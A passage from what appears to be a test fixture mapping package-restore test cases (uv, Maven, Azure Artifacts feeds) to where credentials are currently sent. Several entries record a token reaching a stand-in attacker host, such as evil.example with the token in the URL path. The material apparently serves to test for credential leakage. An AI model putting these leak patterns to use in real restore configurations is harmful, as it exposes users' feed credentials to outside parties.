        "elsewhere: GET http://127.0.0.1/DefaultCollection/Fabrikam%20Fiber/_packaging/fiber/maven/v1/com/fabrikam/parent/1.0.0/parent-1.0.0.pom (in base64)",
    },
  ],
  [
    "restore-uv-expand-direct-index",
    { today: "elsewhere: GET https://evil.example/<token>/evil-1.0.0-py3-none-any.whl (as it is)" },
  ],
  [
    "restore-uv-second-index-northwind",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/northwind/_packaging/parts/pypi/simple/contoso-greeting/ (in base64), and 1 more",
    },
  ],
  [
    "restore-uv-direct",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
    },
  ],
  [
    "restore-uv-source",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
    },
  ],
  [
    "restore-uv-find-links",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/simple/contoso-greeting/ (in base64)",
    },
  ],
  [
    "restore-uv-lock-url",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
    },
  ],
  [
    "restore-uv-lock-registry",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
    },
  ],
  [
    "restore-uv-insecure-both",
    {
      today:
        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/pypi/simple/fabrikam-greeting/ (in base64)",
    },
  ],
  [
    "restore-maven-settings-two-lines",
    { today: "elsewhere: GET https://evil.example/maven/com/evil/evil/1.0.0/evil-1.0.0.pom (in base64)" },
  ],
  [
    "restore-maven-insecure-config",
    {
      today:
        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/maven/v1/com/fabrikam/parent/1.0.0/parent-1.0.0.pom (in base64)",
    },
  ],
]);
